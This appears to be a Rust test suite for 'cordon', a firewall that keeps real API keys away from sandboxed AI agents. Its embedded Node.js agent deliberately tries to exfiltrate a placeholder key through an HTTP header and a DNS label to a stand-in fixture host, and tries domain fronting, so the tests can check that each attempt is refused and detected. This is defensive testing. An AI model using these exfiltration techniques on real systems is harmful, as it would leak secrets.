//! The AI firewall's credentials on the real kernel: the agent (the Anthropic SDK from npm)
//! holds only a placeholder, cordon intercepts TLS to the credential's host with the run's
//! CA (trusted inside the sandbox through the system store and NODE_EXTRA_CA_CERTS, with no
//! help from the agent), verifies the upstream against `upstream_ca`, and puts the real key in
//! the request; the placeholder sent anywhere else is refused; the key is in no record.
//! Upstreams are on the host's loopback (127.0.0.5), reached by name through `resolve`.

mod common;

use common::*;
use std::path::Path;

const AGENT: &str = r#"
const Anthropic = require('/opt/cordon-test-agents/node_modules/@anthropic-ai/sdk');
const http = require('http');
const dns = require('dns');
const key = process.env.ANTHROPIC_API_KEY || '';
console.log('key_is_placeholder\t' + key.startsWith('cordon-placeholder-'));
const client = new Anthropic({ maxRetries: 0, timeout: 20000 });
function get(opts) {
  return new Promise(res => {
    const r = http.get(opts, resp => { resp.resume(); resp.on('end', () => res('status:' + resp.statusCode)); });
    r.on('error', e => res('error:' + e.code));
    r.setTimeout(10000, () => { r.destroy(); res('error:timeout'); });
  });
}
(async () => {
  try {
    const m = await client.messages.create({ model: 'claude-test', max_tokens: 16, messages: [{ role: 'user', content: 'hi' }] });
    console.log('reply\t' + m.content[0].text);
  } catch (e) { console.log('reply\terror:' + e.status); }
  // HTTP/2 from the agent (curl), HTTP/1.1 to the upstream: cordon speaks each side's.
  try {
    const v = require('child_process').execFileSync('curl', ['-s', '--http2', '-o', '/dev/null',
      '-w', '%{http_version} %{http_code}', '-X', 'POST', '-H', 'x-api-key: ' + key,
      '-H', 'content-type: application/json', '-d', '{"model":"m","messages":[]}',
      'https://api.anthropic.com/v1/messages/count_tokens']).toString();
    console.log('h2\t' + v);
  } catch (e) { console.log('h2\terror'); }
  // A service that quotes the key back: the agent reads its placeholder, not the key.
  try {
    const v = require('child_process').execFileSync('curl', ['-s', '-H', 'x-api-key: ' + key,
      'https://api.anthropic.com/v1/echo']).toString();
    console.log('echo\t' + (v.includes(key) ? 'placeholder' : 'other: ' + v.trim()));
  } catch (e) { console.log('echo\terror'); }
  // Domain fronting on the intercepted connection: another site's name in Host would get
  // the key cordon adds; refused (421) before anything is relayed.
  try {
    const v = require('child_process').execFileSync('curl', ['-s', '--http1.1', '-o', '/dev/null',
      '-w', '%{http_code}', '-H', 'Host: fronted.example', '-H', 'x-api-key: ' + key,
      'https://api.anthropic.com/v1/models']).toString();
    console.log('fronting\t' + v);
  } catch (e) { console.log('fronting\terror'); }
  // The placeholder carried to another allowed host, in a header and in a name.
  console.log('exfil_header\t' + await get({ host: 'other.fixture.test', port: Number(process.argv[2]), path: '/', headers: { 'x-token': key } }));
  console.log('plain_request\t' + await get({ host: 'other.fixture.test', port: Number(process.argv[2]), path: '/' }));
  const label = key.slice(0, 60);
  console.log('exfil_dns\t' + await new Promise(res => dns.lookup(label + '.other.fixture.test', e => res(e ? 'error:' + e.code : 'resolved'))));
})();
"#;

#[test]
fn the_agent_holds_a_placeholder_and_the_real_key_reaches_only_its_host() {
    require_root();
    let s = Scratch::new();
    let d = s.path();
    test_ca(d, "ca.pem", &["api.anthropic.com"], "api");
    let key = "sk-ant-api03-firewall-canary-77aa88bb99cc00dd11ee22ff33";
    let mut api = messages_stand_in(d, "127.0.0.5", "stand-in got the real key", Some(key));
    let port = http_fixture("other says hi", 4);
    s.file("agent.js", AGENT);
    let profile = log_only_profile(
        &s,
        "fw",
        "agent",
        &format!(
            "[network]\nallow = [\"api.anthropic.com\", \"other.fixture.test:{port}\", \"*.other.fixture.test:{port}\"]\n\
             resolve = {{ \"api.anthropic.com\" = \"127.0.0.5\", \"other.fixture.test\" = \"127.0.0.1\" }}\n\
             upstream_ca = \"{}\"\n\
             [[network.credential]]\nhost = \"api.anthropic.com\"\nheader = \"x-api-key\"\nsecret = \"env:ANTHROPIC_API_KEY\"\n",
            d.join("ca.pem").display()
        ),
    );
    let trace = d.join("run.trace");
    let ev = d.join("events.jsonl");
    let mut c = run_cmd(
        &profile,
        d,
        &[
            "--trace",
            trace.to_str().unwrap(),
            "--events",
            ev.to_str().unwrap(),
        ],
        &["/usr/bin/node", "agent.js", &port.to_string()],
    );
    c.env("ANTHROPIC_API_KEY", key);
    let out = output(c);
    let _ = api.kill();
    let _ = api.wait();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{}\n{err}", stdout(&out));
    let r = results(&stdout(&out));
    assert_eq!(r["key_is_placeholder"], "true", "{r:?}");
    assert_eq!(r["reply"], "stand-in got the real key", "{r:?}\n{err}");
    assert_eq!(r["h2"], "2 200", "{r:?}");
    assert_eq!(r["fronting"], "421", "{r:?}");
    assert_eq!(r["echo"], "placeholder", "{r:?}");
    assert!(r["exfil_header"].starts_with("error:"), "{r:?}");
    assert_eq!(r["plain_request"], "status:200", "{r:?}");
    assert!(r["exfil_dns"].starts_with("error:"), "{r:?}");
    assert!(
        err.contains("credential for api.anthropic.com") && err.contains("intercepted"),
        "{err}"
    );
    let events = events_of(&ev);
    let http: Vec<&serde_json::Value> = events.iter().filter_map(|e| e.get("http")).collect();
    assert!(
        http.iter().any(|h| h["method"] == "POST"
            && h["host"] == "api.anthropic.com"
            && h["path"].as_str().unwrap().starts_with("/v1/messages")
            && h["status"] == 200),
        "{http:#?}"
    );
    // The model gateway: the request and the model's answer, in order.
    let req = events
        .iter()
        .position(|e| e.get("modelRequest").is_some())
        .expect("the request to the model was recorded");
    let resp = events
        .iter()
        .position(|e| e.get("modelResponse").is_some())
        .expect("the model's answer was recorded");
    assert!(req < resp);
    let (mreq, mresp) = (&events[req]["modelRequest"], &events[resp]["modelResponse"]);
    assert_eq!(mreq["api"], "anthropic.messages");
    assert_eq!(mreq["model"], "claude-test");
    assert_eq!(mreq["messages"][0]["content"], "hi", "{mreq}");
    assert_eq!(mresp["text"], "stand-in got the real key", "{mresp}");
    assert_eq!(mresp["stopReason"], "end_turn", "{mresp}");
    let refused: Vec<&serde_json::Value> = events
        .iter()
        .filter_map(|e| e.get("connection"))
        .filter(|c| c["allowed"] != true)
        .collect();
    assert!(
        refused.iter().any(|c| c["reason"]
            .as_str()
            .unwrap_or("")
            .contains("placeholder of ANTHROPIC_API_KEY")),
        "{refused:#?}"
    );
    let dns_refused = events
        .iter()
        .filter_map(|e| e.get("dns"))
        .any(|q| q["rule"].as_str().unwrap_or("").contains("placeholder"));
    assert!(dns_refused, "the name carrying the placeholder was not refused");
    let exfil: Vec<&serde_json::Value> = events
        .iter()
        .filter_map(|e| e.get("detection"))
        .filter(|d| d["rule"] == "exfiltration")
        .collect();
    assert!(
        exfil
            .iter()
            .any(|d| d["summary"].as_str().unwrap().contains("other.fixture.test"))
            && exfil
                .iter()
                .any(|d| d["summary"].as_str().unwrap().starts_with("DNS question")),
        "{exfil:#?}"
    );
    let has = |bytes: &[u8]| bytes.windows(key.len()).any(|w| w == key.as_bytes());
    assert!(!has(&std::fs::read(&trace).unwrap()), "the key reached the trace");
    assert!(!has(&std::fs::read(&ev).unwrap()), "the key reached the events");
    assert!(
        !has(&out.stderr) && !has(&out.stdout),
        "the key reached cordon's output"
    );
}

#[test]
fn a_credential_that_cannot_be_read_stops_the_run_naming_it() {
    require_root();
    let s = Scratch::new();
    let profile = s.file(
        "profiles/bad.toml",
        "extends = \"agent\"\n[[network.credential]]\nhost = \"api.anthropic.com\"\nsecret = \"env:CORDON_TEST_NO_SUCH_KEY\"\n",
    );
    let marker = s.path().join("ran");
    let mut c = run_cmd(
        profile.to_str().unwrap(),
        s.path(),
        &[],
        &["/usr/bin/touch", marker.to_str().unwrap()],
    );
    c.env_remove("CORDON_TEST_NO_SUCH_KEY");
    let out = output(c);
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("network.credential for api.anthropic.com (env:CORDON_TEST_NO_SUCH_KEY)")
            && err.contains("--preserve-env=CORDON_TEST_NO_SUCH_KEY")
            && err.contains("no agent was started"),
        "{err}"
    );
    assert!(!marker.exists(), "the agent ran");
}

/// Real Claude Code under its preset with its key as a credential: it holds a placeholder,
/// the stand-in (which sees the real key) asks it to run a command through its Bash tool, and
/// the trace holds the model's request for that command right before the exec it caused.
#[test]
fn claude_code_with_a_placeholder_key_runs_the_models_tool_call_and_the_trace_links_them() {
    require_root();
    let claude = Path::new("/opt/cordon-test-agents/node_modules/.bin/claude");
    assert!(claude.exists(), "scripts/setup installs Claude Code there");
    let s = Scratch::new();
    let d = s.path();
    let ws = s.dir("ws");
    let home = s.dir("home");
    test_ca(d, "ca.pem", &["api.anthropic.com"], "api");
    let key = "sk-ant-api03-gateway-canary-5566778899aabbccddeeff0011";
    let api = messages_stand_in_with(
        d,
        "127.0.0.6",
        "the file is made",
        Some(key),
        &[("TOOL_COMMAND", "echo from-the-model > made-by-tool.txt")],
    );
    let profile = log_only_profile(
        &s,
        "claude-gw",
        "claude",
        &anthropic_stand_in("127.0.0.6", &d.join("ca.pem")),
    );
    let trace = d.join("run.trace");
    let ev = d.join("events.jsonl");
    let extra = [
        "--home",
        home.to_str().unwrap(),
        "--trace",
        trace.to_str().unwrap(),
        "--events",
        ev.to_str().unwrap(),
    ];
    let out = run_claude(&profile, &ws, &extra, "make the file", key, api);
    assert!(stdout(&out).contains("the file is made"), "{}", stdout(&out));
    assert_eq!(
        std::fs::read_to_string(ws.join("made-by-tool.txt"))
            .unwrap()
            .trim(),
        "from-the-model"
    );
    let events = events_of(&ev);
    let asked = events
        .iter()
        .position(|e| {
            e.get("modelResponse").is_some_and(|m| {
                m["toolCalls"][0]["name"] == "Bash"
                    && m["toolCalls"][0]["input"]
                        .as_str()
                        .unwrap_or("")
                        .contains("made-by-tool")
            })
        })
        .expect("the model's tool call was recorded");
    // The command is a shell builtin inside a long `bash -c` (its argv is cut by the
    // probe): what it did is the file it wrote.
    let ran = events
        .iter()
        .position(|e| {
            e.get("syscall")
                .is_some_and(|x| x["path"].as_str().unwrap_or("").ends_with("made-by-tool.txt"))
        })
        .expect("the write of the file was recorded");
    assert!(asked < ran, "the model's request comes before what it caused");
    let detections: Vec<&serde_json::Value> = events.iter().filter_map(|e| e.get("detection")).collect();
    assert!(detections.is_empty(), "false alarms: {detections:#?}");
    let has = |bytes: &[u8]| bytes.windows(key.len()).any(|w| w == key.as_bytes());
    assert!(!has(&std::fs::read(&trace).unwrap()), "the key reached the trace");
    assert!(!has(&std::fs::read(&ev).unwrap()), "the key reached the events");
    assert!(
        !has(&out.stderr) && !has(&out.stdout),
        "the key reached cordon's output"
    );
    // No file the agent could read holds it either: its state directory.
    for f in walk(&home) {
        assert!(
            !has(&std::fs::read(&f).unwrap_or_default()),
            "the key is in {}",
            f.display()
        );
    }
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

const OPENAI_AGENT: &str = r#"
const OpenAI = require('/opt/cordon-test-agents/node_modules/openai');
const client = new OpenAI({ maxRetries: 0, timeout: 20000 });
(async () => {
  const tools = [{ type: 'function', function: { name: 'get_weather', parameters: { type: 'object', properties: { city: { type: 'string' } } } } }];
  const messages = [{ role: 'user', content: 'weather in Paris?' }];
  try {
    const first = await client.chat.completions.create({ model: 'gpt-test', messages, tools });
    const call = first.choices[0].message.tool_calls[0];
    console.log('call\t' + call.function.name + ' ' + call.function.arguments);
    messages.push(first.choices[0].message, { role: 'tool', tool_call_id: call.id, content: '21C, sunny' });
    const stream = await client.chat.completions.create({ model: 'gpt-test', messages, tools, stream: true, stream_options: { include_usage: true } });
    let text = '';
    for await (const chunk of stream) text += (chunk.choices[0] && chunk.choices[0].delta.content) || '';
    console.log('reply\t' + text);
  } catch (e) { console.log('reply\terror:' + e.status + ' ' + e.message); }
})();
"#;

/// The OpenAI SDK from npm under the `agent` preset with OPENAI_API_KEY in the environment:
/// the preset's optional credential gives the agent a placeholder, the stand-in of Chat
/// Completions sees the real bearer token, and the gateway records the tool call (not
/// streamed) and the streamed answer.
#[test]
fn the_openai_sdk_calls_a_tool_through_the_gateway_with_a_placeholder_key() {
    require_root();
    let s = Scratch::new();
    let d = s.path();
    test_ca(d, "ca.pem", &["api.openai.com"], "api");
    let key = "sk-proj-openai-canary-0011223344556677889900aabbccddeeff";
    let mut api = listening(
        std::process::Command::new("/usr/bin/python3")
            .arg(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/../tests/proxy/openai_standin.py"
            ))
            .args(["api.pem", "api.key", "127.0.0.8"])
            .env("EXPECT_KEY", key)
            .current_dir(d)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    s.file("agent.js", OPENAI_AGENT);
    let profile = log_only_profile(
        &s,
        "oa",
        "agent",
        &format!(
            "[network]\nresolve = {{ \"api.openai.com\" = \"127.0.0.8\" }}\nupstream_ca = \"{}\"\n",
            d.join("ca.pem").display()
        ),
    );
    let trace = d.join("run.trace");
    let ev = d.join("events.jsonl");
    let mut c = run_cmd(
        &profile,
        d,
        &[
            "--trace",
            trace.to_str().unwrap(),
            "--events",
            ev.to_str().unwrap(),
        ],
        &["/usr/bin/node", "agent.js"],
    );
    c.env("OPENAI_API_KEY", key);
    let out = output(c);
    let _ = api.kill();
    let _ = api.wait();
    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    let r = results(&stdout(&out));
    assert_eq!(
        r["call"],
        "get_weather {\"city\": \"Paris\"}",
        "{r:?}\n{}",
        stderr(&out)
    );
    assert_eq!(r["reply"], "sunny in Paris", "{r:?}");
    let events = events_of(&ev);
    let responses: Vec<&serde_json::Value> = events.iter().filter_map(|e| e.get("modelResponse")).collect();
    assert_eq!(responses.len(), 2, "{responses:#?}");
    assert_eq!(responses[0]["api"], "openai.chat");
    assert_eq!(responses[0]["toolCalls"][0]["name"], "get_weather");
    assert_eq!(responses[0]["stopReason"], "tool_calls");
    assert_eq!(responses[1]["text"], "sunny in Paris", "{:#?}", responses[1]);
    assert_eq!(
        uint(&responses[1]["outputTokens"]),
        Some(3),
        "{:#?}",
        responses[1]
    );
    let requests: Vec<&serde_json::Value> = events.iter().filter_map(|e| e.get("modelRequest")).collect();
    assert_eq!(requests[1]["stream"], true);
    // The second turn records only what is new: the assistant's call and the tool's result.
    let roles: Vec<&str> = requests[1]["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["role"].as_str().unwrap())
        .collect();
    assert_eq!(roles, ["assistant", "tool"], "{:#?}", requests[1]);
    let has = |bytes: &[u8]| bytes.windows(key.len()).any(|w| w == key.as_bytes());
    assert!(!has(&std::fs::read(&trace).unwrap()), "the key reached the trace");
    assert!(!has(&std::fs::read(&ev).unwrap()), "the key reached the events");
}

/// Started through sudo, cordon reads `file:` and runs `cmd:` secrets as the invoking user,
/// not as root: a root-only file is refused (nothing starts), and a command's identity is the
/// caller's (the secret's hash on the start line is that of the caller's uid).
#[test]
fn file_and_cmd_secrets_are_read_as_the_invoking_user() {
    require_root();
    let s = Scratch::new();
    let ws = s.dir("ws");
    chown_tree(&ws, SUDO_TEST_UID);
    let secret = s.path().join("root-only-key");
    std::fs::write(&secret, "sk-root-only-0123456789abcdef\n").unwrap();
    std::fs::set_permissions(&secret, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let cred = |source: &str| {
        s.file(
            "profiles/cred.toml",
            &format!(
                "extends = \"agent\"\n[[network.credential]]\nhost = \"api.anthropic.com\"\n\
                 secret = \"{source}\"\nenv = \"ANTHROPIC_API_KEY\"\n"
            ),
        )
    };
    let run = |profile: &std::path::Path| {
        let mut c = run_cmd(profile.to_str().unwrap(), &ws, &[], &["/bin/true"]);
        Caller::Sudo(SUDO_TEST_UID).apply(&mut c);
        output(c)
    };
    let out = run(&cred(&format!("file:{}", secret.display())));
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(stderr(&out).contains("cannot read it"), "{}", stderr(&out));
    assert!(
        !stderr(&out).contains("sk-root-only"),
        "the value leaked: {}",
        stderr(&out)
    );
    let out = run(&cred("cmd:id -u"));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let want = {
        use sha2::Digest;
        let d = sha2::Sha256::digest(SUDO_TEST_UID.to_string().as_bytes());
        let hex: String = d[..6].iter().map(|b| format!("{b:02x}")).collect();
        format!("[secret sha256:{hex}]")
    };
    assert!(stderr(&out).contains(&want), "want {want}: {}", stderr(&out));
}
